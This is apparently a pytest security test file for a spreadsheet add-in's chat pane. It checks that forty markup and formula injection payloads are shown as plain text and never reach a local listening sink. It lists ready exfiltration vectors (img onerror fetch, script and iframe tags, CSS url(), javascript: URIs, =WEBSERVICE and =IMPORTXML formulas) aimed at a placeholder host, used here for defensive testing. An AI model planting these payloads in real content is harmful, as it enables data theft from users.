"""Forty ways to have a page send something away, in names, in questions and in replies: none leaves."""

import csv
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.addin.pane.served import kpi, serving
from tests.addin.pane.talking import ask, keep_copies, last, open_chat

#: SINK stands for the address of whoever listens.
PAYLOADS = (
    "![logo](SINK/1.png)",
    "![logo][x] [x]: SINK/2.png",
    "[the report](SINK/3)",
    "[the report][r] [r]: SINK/4",
    "<SINK/5>",
    "SINK/6?d=CPL",
    "<img src=SINK/7.png>",
    "<img src=x onerror=\"fetch('SINK/8')\">",
    '<img srcset="SINK/9.png 2x">',
    "<picture><source srcset=SINK/10.png><img></picture>",
    "<iframe src=SINK/11></iframe>",
    "<iframe srcdoc=\"<img src='SINK/12'>\"></iframe>",
    "<object data=SINK/13></object>",
    "<embed src=SINK/14>",
    "<script src=SINK/15></script>",
    "<script>fetch('SINK/16')</script>",
    "<link rel=stylesheet href=SINK/17.css>",
    "<link rel=prefetch href=SINK/18>",
    "<link rel=dns-prefetch href=SINK/19>",
    '<meta http-equiv=refresh content="0;url=SINK/20">',
    "<base href=SINK/21/>",
    "<form action=SINK/22><button autofocus>go</button></form>",
    "<svg><image href=SINK/23.png /></svg>",
    "<svg><use href=SINK/24.svg#a /></svg>",
    "<svg onload=\"fetch('SINK/25')\"></svg>",
    "<svg><style>@import 'SINK/26.css';</style></svg>",
    "<style>body{background:url(SINK/27.png)}</style>",
    '<p style="background:url(SINK/28.png)">x</p>',
    "<video src=SINK/29.mp4 autoplay></video>",
    "<audio src=SINK/30.mp3 autoplay></audio>",
    "<body background=SINK/31.png>",
    "<table background=SINK/32.png><tr><td>x</table>",
    "javascript:fetch('SINK/33')",
    "[x](javascript:fetch('SINK/34'))",
    "data:text/html,<script>fetch('SINK/35')</script>",
    '=HYPERLINK("SINK/36","the report")',
    '=WEBSERVICE("SINK/37?d="&A1)',
    '=IMPORTXML("SINK/38","//a")',
    '=IMAGE("SINK/39.png")',
    "</textarea></title></svg><img src=SINK/40.png>",
)
_SECONDS_TO_LEAVE = 0.4


class Sink:
    """Somebody who listens on this machine, and what reached them."""

    def __init__(self):
        self.met = met = []

        class Listening(BaseHTTPRequestHandler):
            def do_GET(self):
                met.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the names that the library calls

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def payloads(self):
        """The payloads that would come here."""
        return [payload.replace("SINK", self.address) for payload in PAYLOADS]


@pytest.fixture(name="sink", scope="module")
def _sink():
    listening = Sink()
    yield listening
    listening.server.shutdown()
    listening.server.server_close()


@pytest.fixture(name="named", scope="module")
def _named(browser, sink, tmp_path_factory):
    """A workspace whose campaigns bear the payloads as names."""
    folder = tmp_path_factory.mktemp("named")
    spend = tmp_path_factory.mktemp("files") / "spend.csv"
    with spend.open("w", encoding="utf-8", newline="") as file:
        lines = csv.writer(file, delimiter=";")
        lines.writerow(["date de dépense", "source", "campagne", "montant dépensé"])
        for i, payload in enumerate(sink.payloads):
            lines.writerow([f"2025-{1 + i % 10:02}-03", "LinkedIn", payload, f"{100 + i},00"])
    kpi(folder, "import", str(spend), "--tax", "ht")
    with serving(folder) as served:
        yield served


@pytest.fixture(name="open_page")
def _open_page(browser):
    """A page without the policy that would stop what its own care does not."""
    with browser.page(languages="fr-FR") as page:
        page.tell("Page.setBypassCSP", enabled=True)
        yield page


def take_everything_away(page):
    """Press whatever the last reply offers, and draw its picture."""
    keep_copies(page)
    page.value(
        "import('/pane/takeaway.js').then(({ png }) => Promise.all([...document.querySelectorAll('figure svg[role=img]')].map((s) => png(s, s.querySelector('title').textContent))))"
    )
    page.value("for (const b of document.querySelectorAll('[data-action^=copy]')) b.click()")


def nothing_left(page, sink):
    """Wait as long as a request takes, then check that none came and none was tried."""
    page.value(f"new Promise((r) => setTimeout(r, {_SECONDS_TO_LEAVE * 1000}))")

    assert [] == sink.met
    assert [] == [a for a in page.requests() if a.startswith(sink.address)]
    assert page.value("frames.length === 0 && document.images.length === 1")


def test_the_sink_would_hear(open_page, named, sink):
    """
    Without its policy this page can reach the sink: were a payload alive, these tests would know.
    """
    open_chat(open_page, named)
    open_page.value(f"fetch('{sink.address}/alive', {{mode: 'no-cors'}}).catch(() => null)")
    heard = list(sink.met)
    sink.met.clear()

    assert ["/alive"] == heard


def test_there_are_forty():
    """
    Each payload is another one.
    """
    assert 40 == len(set(PAYLOADS))


def test_names_in_the_data_are_words(open_page, named, sink):
    """
    Campaigns called by the payloads are listed, drawn and copied as they are written.
    """
    held = {
        r.group["campaign"]
        for r in named.query(kpis=["direct_cost"], by=["campaign"], period="2025")
    }
    open_chat(open_page, named)
    ask(open_page, "dépenses par campagne en 2025")
    listed = last(open_page, ".told tbody th")
    ask(open_page, "quelles campagnes ?")
    take_everything_away(open_page)

    assert set(sink.payloads) <= held
    assert set(sink.payloads) <= set(listed)
    nothing_left(open_page, sink)


def test_questions_are_words(open_page, named, sink):
    """
    What is typed is shown as it was typed, and so is the part of it that is quoted back.
    """
    open_chat(open_page, named)
    for payload in sink.payloads:
        ask(open_page, f"CPL {payload}")

    assert [f"CPL {payload}" for payload in sink.payloads] == open_page.texts(".words")
    nothing_left(open_page, sink)


def hostile(sink):
    """Return replies of a server that means harm, every word of them a payload."""
    payloads = sink.payloads
    for i, payload in enumerate(payloads):
        others = (payloads[i:] + payloads[:i])[:3]
        points = [
            {"label": p, "value": n + 1.0, "low": 0.5, "high": 9.0} for n, p in enumerate(others)
        ]
        yield {
            "outcome": ("answer", "clarify", "decline")[i % 3],
            "lang": "fr",
            "text": f"{payload}\n{payload}",
            "rows": [],
            "options": [
                {"label": p, "reading": {"intent": p}, "word": p, "meaning": p} for p in others
            ],
            "chart": {
                "kind": ("line", "bar", "funnel")[i % 3],
                "title": payload,
                "unit": "money",
                "currency": "EUR",
                "series": [{"name": p, "points": points} for p in others],
            },
            "table": {
                "head": others,
                "numeric": [False, True, False],
                "rows": [others, others],
            },
            "assumptions": [payload],
            "caveats": others,
            "details": [payload],
            "notes": [payload],
            "formula": payload,
            "context": {"reading": {"intent": payload}},
        }


def test_replies_are_words(open_page, named, sink):
    """
    A server that means harm is shown word for word: nothing of its reply is markup, style or address.
    """
    replies = list(hostile(sink))
    source = (
        f"const replies = {json.dumps(replies)}; const real = fetch; let said = 0;"
        "window.fetch = (path, given) => path === '/v1/ask' ? Promise.resolve(new Response(`event: reply\\ndata: ${JSON.stringify(replies[said++])}\\n\\n`,"
        " {headers: {'content-type': 'text/event-stream'}})) : real(path, given);"
    )
    open_page.tell("Page.addScriptToEvaluateOnNewDocument", source=source)
    open_chat(open_page, named)
    for reply in replies:
        ask(open_page, "?")
        payload = reply["text"].split("\n")[0]

        assert [payload] == last(open_page, ".first")
        assert [o["label"] for o in reply["options"]] == last(open_page, ".option")
        assert reply["table"]["head"] == last(open_page, ".told thead th")
        assert [payload] == last(open_page, ".assumed li")
        assert [payload] == last(open_page, ".note li")
        assert reply["caveats"] == last(open_page, ".caveats li")
        assert [payload] == last(open_page, "figcaption")
    take_everything_away(open_page)

    assert not open_page.value(
        "document.querySelector('#chat-turns :is(a, img, iframe, object, embed, script, style, link, form, video, audio, [style], [onerror], [onload], [href], [src])')"
    )
    nothing_left(open_page, sink)


def test_a_problem_is_words(open_page, named, sink):
    """
    The sentence of an error is words as well.
    """
    payload = " ".join(sink.payloads)
    source = (
        "const real = fetch; window.fetch = (path, given) => path === '/v1/ask' ? Promise.resolve(new Response("
        f"JSON.stringify({{message: {{fr: {json.dumps(payload)}}}}}), {{status: 503}})) : real(path, given);"
    )
    open_page.tell("Page.addScriptToEvaluateOnNewDocument", source=source)
    open_chat(open_page, named)
    ask(open_page, "CPL")

    assert [payload] == last(open_page, "[role=alert]")
    nothing_left(open_page, sink)


def test_no_word_of_a_reply_is_put_in_a_sheet(page, named, sink):
    """
    Only a call of one of our functions can be inserted, whatever formula a reply brings.
    """
    page.visit(named.address)
    tried = [*sink.payloads, '=B2B_KPI(HYPERLINK("x"))', '=b2b_kpi;WEBSERVICE("x")', "=CMD(1)"]
    reply = {
        "outcome": "answer", "lang": "en", "text": "x", "rows": [], "options": [], "chart": None,
        "table": None, "assumptions": [], "caveats": [], "details": [], "notes": [], "context": None,
    }  # fmt: skip
    offered = page.value(
        "import('/pane/reply.js').then(({ shownReply }) => "
        f"{json.dumps([*tried, '=B2B_KPI(' + chr(34) + 'CPL' + chr(34) + ')'])}.filter((formula) => shownReply({{...{json.dumps(reply)}, formula}},"
        " {locale: 'en-US', kpis: new Map(), focus: [], sheet: {insert() {}}, said: 'x', pick() {}}).querySelector('[data-action=insertShort]')))"
    )

    assert ['=B2B_KPI("CPL")'] == offered


def test_no_address_of_a_name_becomes_a_link(page, named, sink):
    """
    With the policy in force the same page complains of nothing: there was nothing to refuse.
    """
    open_chat(page, named, "en")
    ask(page, "spend by campaign in 2025")
    ask(page, f"CPL {sink.payloads[6]}")
    links = page.value("[...document.querySelectorAll('a')].map((a) => a.href)")

    assert [] == page.complaints()
    assert not [link for link in links if re.match(re.escape(sink.address), link)]
    assert [] == sink.met
